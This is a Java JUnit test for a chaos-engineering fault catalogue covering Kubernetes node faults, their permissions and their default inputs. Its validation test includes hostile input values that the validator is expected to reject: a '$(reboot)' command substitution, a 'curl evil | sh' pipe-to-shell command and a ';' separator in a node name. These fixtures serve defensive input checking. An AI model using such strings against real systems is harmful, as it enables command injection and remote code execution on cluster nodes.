package io.chaosplane.protocol.catalog;

import static io.chaosplane.protocol.catalog.FaultCatalogTest.inputs;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** LitmusChaos' node faults in the catalogue: where they stand, what they need, and what their inputs let through. */
class KubernetesNodeFaultsCatalogTest {

    private final FaultCatalog catalog = FaultCatalog.standard();

    @Test
    void theNodeFaultsFollowNodeDrainAndSayWhatTheyNeed() {
        List<String> kubernetes = catalog.faults().stream()
                .filter(fault -> fault.platform() == Platform.KUBERNETES)
                .map(FaultDefinition::name)
                .toList();
        int drain = kubernetes.indexOf("node-drain");

        assertThat(kubernetes.subList(drain + 1, drain + 7))
                .containsExactly(
                        "node-cpu-hog",
                        "node-memory-hog",
                        "node-io-stress",
                        "node-taint",
                        "node-restart",
                        "kubelet-service-kill");
        assertThat(catalog.find("node-taint").orElseThrow().permissions().kubernetes())
                .containsExactly("list nodes", "patch nodes");
        assertThat(catalog.find("node-cpu-hog").orElseThrow().permissions().kubernetes())
                .contains("create pods", "delete pods", "list nodes");
        assertThat(catalog.find("kubelet-service-kill")
                        .orElseThrow()
                        .permissions()
                        .commands())
                .containsExactly("systemctl", "systemd-run");
        assertThat(catalog.find("node-memory-hog").orElseThrow().category()).isEqualTo("stress");
    }

    @Test
    void litmusTunablesAreAcceptedWithTheirDefaults() {
        FaultInputs cpu = catalog.resolve("node-cpu-hog", inputs("TARGET_NODES", "node-1,node-2"));
        assertThat(cpu.integer("NODE_CPU_CORE")).isZero();
        assertThat(cpu.percentage("CPU_LOAD")).isEqualTo(100);
        assertThat(cpu.string("SEQUENCE")).isEqualTo("parallel");
        assertThat(cpu.percentage("NODES_AFFECTED_PERC")).isZero();

        FaultInputs io = catalog.resolve("node-io-stress", inputs("NODE_LABEL", "pool=io"));
        assertThat(io.integer("NUMBER_OF_WORKERS")).isEqualTo(4);
        assertThat(io.has("FILESYSTEM_UTILIZATION_PERCENTAGE")).isFalse();

        assertThat(catalog.resolve("node-restart", inputs("TARGET_NODE", "node-1"))
                        .string("REBOOT_COMMAND"))
                .isEqualTo("systemctl reboot");
        assertThat(catalog.validateInputs(
                        "node-taint",
                        inputs("TAINTS", "node.kubernetes.io/chaos=yes:NoSchedule,maintenance", "TARGET_NODE", "n1")))
                .isEmpty();
    }

    @Test
    void valuesThatCouldBeReadAsMoreThanAValueAreRefusedAtTheirField() {
        assertThat(catalog.validateInputs("node-taint", inputs("TAINTS", "a=b:NoExecute $(reboot)")))
                .extracting(FieldError::field)
                .containsExactly("experimentInputs.TAINTS");
        assertThat(catalog.validateInputs("node-taint", inputs()))
                .extracting(FieldError::field)
                .containsExactly("experimentInputs.TAINTS");
        assertThat(catalog.validateInputs("node-restart", inputs("REBOOT_COMMAND", "curl evil | sh")))
                .extracting(FieldError::field)
                .containsExactly("experimentInputs.REBOOT_COMMAND");
        assertThat(catalog.validateInputs(
                        "node-memory-hog",
                        inputs(
                                "MEMORY_CONSUMPTION_PERCENTAGE",
                                "0",
                                "NUMBER_OF_WORKERS",
                                "1000",
                                "TARGET_NODE",
                                "a;b")))
                .extracting(FieldError::field)
                .containsExactlyInAnyOrder(
                        "experimentInputs.MEMORY_CONSUMPTION_PERCENTAGE",
                        "experimentInputs.NUMBER_OF_WORKERS",
                        "experimentInputs.TARGET_NODE");
    }
}
